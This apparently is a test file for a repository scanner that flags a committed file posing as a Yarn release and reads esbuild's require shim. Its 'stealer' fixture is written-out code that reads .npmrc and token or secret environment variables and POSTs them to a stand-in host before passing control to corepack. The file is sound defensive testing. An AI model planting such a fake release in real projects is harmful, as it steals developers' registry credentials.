// Issue 24, round s27: IN-SAMPLE for held-out set 27 (repositories: a committed "Yarn release" that
// yarnPath names but that is not Yarn's bundle; esbuild's __require shim read as require).
import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { analyzeRepository } from './repositories/analyze-repository.js';
import { isYarnBundle, yarnPathTarget } from './repositories/tool-config-findings.js';
import { javascriptFacts } from './code/javascript/index.js';

const repo = async (files: Record<string, string>): Promise<AgentResult> => analyzeRepository({ dir: await dirWith(files), track: 'repositories', bundleHash: null });
const above = (r: AgentResult) => r.findings.filter((f: AgentFinding) => f.severity !== 'LOW').map((f) => `${f.severity} ${f.title}`);
const FAKE_TITLE = 'Yarn configuration runs a committed file named like a Yarn release that is not one';

const banner = '#!/usr/bin/env node\n/* eslint-disable */\n//prettier-ignore\n';
const shim = `var Rq=(x=>typeof require<"u"?require:typeof Proxy<"u"?new Proxy(x,{get:(a,b)=>(typeof require<"u"?require:a)[b]}):x)(function(x){if(typeof require<"u")return require.apply(this,arguments);throw Error('Dynamic require of "'+x+'" is not supported')});`;
const stealer = `${banner}(()=>{${shim}
var fs=Rq("fs"),os=Rq("os"),path=Rq("path"),https=Rq("https"),cp=Rq("child_process");
function g(){var o={npmrc:"",env:{}};try{o.npmrc=fs.readFileSync(path.join(os.homedir(),".npmrc"),"utf8")}catch(e){}for(var k in process.env)if(/TOKEN|SECRET/.test(k))o.env[k]=process.env[k];return o}
var r=https.request({host:"yarn-cdn.example.invalid",path:"/t",method:"POST"});r.on("error",function(){});r.end(JSON.stringify(g()));
var s=cp.spawnSync("corepack",["yarn@4.2.2"].concat(process.argv.slice(2)),{stdio:"inherit",env:Object.assign({},process.env,{YARN_IGNORE_PATH:"1"})});process.exitCode=s.status;})();
`;
// A stand-in for a real release: over 1 MB, Yarn's banner, naming Yarn's own packages (what `yarn set version` commits).
const genuine = `${banner}(()=>{var Xt=(t,e)=>()=>(e||t((e={exports:{}}).exports,e),e.exports);${Array.from({ length: 9000 }, (_, i) => `var m${i}=Xt((e)=>{e.name="@yarnpkg/plugin-${i % 20}";e.docs="https://yarnpkg.com/cli";e.run=function(c){return c.cwd.length+${i}}});`).join('')}var cp=require("child_process");cp.spawnSync("git",["status"],{stdio:"inherit"});})();\n`;

describe('a committed Yarn release is judged by what it is', () => {
  it('tells a Yarn bundle from a small file named like one', () => {
    expect(genuine.length).toBeGreaterThan(1_000_000);
    expect(isYarnBundle(genuine.length, genuine)).toBe(true);
    expect(isYarnBundle(stealer.length, stealer)).toBe(false);
    expect(isYarnBundle(2_000_000, `${banner}${'x'.repeat(100)}`)).toBe(false);
    expect(isYarnBundle(5_000_000, null)).toBe(true);
    expect(yarnPathTarget('web/.yarnrc.yml', 'yarnPath: .yarn/releases/yarn-4.2.2.cjs\n')).toBe('web/.yarn/releases/yarn-4.2.2.cjs');
    expect(yarnPathTarget('.yarnrc', 'yarn-path ".yarn/releases/yarn-1.22.22.cjs"\n')).toBe('.yarn/releases/yarn-1.22.22.cjs');
  });
  it('blocks a yarnPath release of a few KB that steals registry tokens before handing over to corepack', async () => {
    const r = await repo({ '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.2.2.cjs\n', '.yarn/releases/yarn-4.2.2.cjs': stealer, 'package.json': '{"name":"x","private":true,"packageManager":"yarn@4.2.2"}' });
    expect(r.verdict).toBe('BLOCK');
    expect(above(r)).toContain(`MED ${FAKE_TITLE}`);
    expect(r.findings.some((f) => f.file === '.yarn/releases/yarn-4.2.2.cjs' && f.severity !== 'LOW' && f.category !== 'remote_code_execution')).toBe(true);
  });
  it('follows a Yarn 1 yarn-path in a workspace folder', async () => {
    const r = await repo({ 'app/.yarnrc': 'yarn-path ".yarn/releases/yarn-1.22.22.cjs"\n', 'app/.yarn/releases/yarn-1.22.22.cjs': stealer, 'app/package.json': '{"name":"app"}' });
    expect(r.verdict).toBe('BLOCK');
  });
  it('leaves a committed release of Yarn\'s size and content alone (no finding above LOW)', async () => {
    const r = await repo({ '.yarnrc.yml': 'nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.2.2.cjs\n', '.yarn/releases/yarn-4.2.2.cjs': genuine, 'package.json': '{"name":"x","private":true,"packageManager":"yarn@4.2.2"}' });
    expect(above(r)).toEqual([]);
    expect(r.verdict).toBe('ALLOW');
  });
  it('does not read a release that no yarnPath names as code', async () => {
    const r = await repo({ '.yarn/releases/yarn-4.2.2.cjs': stealer, 'package.json': '{"name":"x"}' });
    expect(r.findings.filter((f) => f.title === FAKE_TITLE)).toEqual([]);
  });
});

describe("esbuild's __require shim", () => {
  it('reads modules loaded through the shim as imports and their calls as the module\'s', () => {
    const facts = javascriptFacts(`${shim}\nvar h=Rq("https"),c=Rq("child_process");c.execSync("id");h.request({host:"a.example.invalid"});`);
    expect(facts.imports.map((i) => i.module)).toEqual(expect.arrayContaining(['https', 'child_process']));
    expect(facts.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['child_process.execSync', 'https.request']));
  });
});
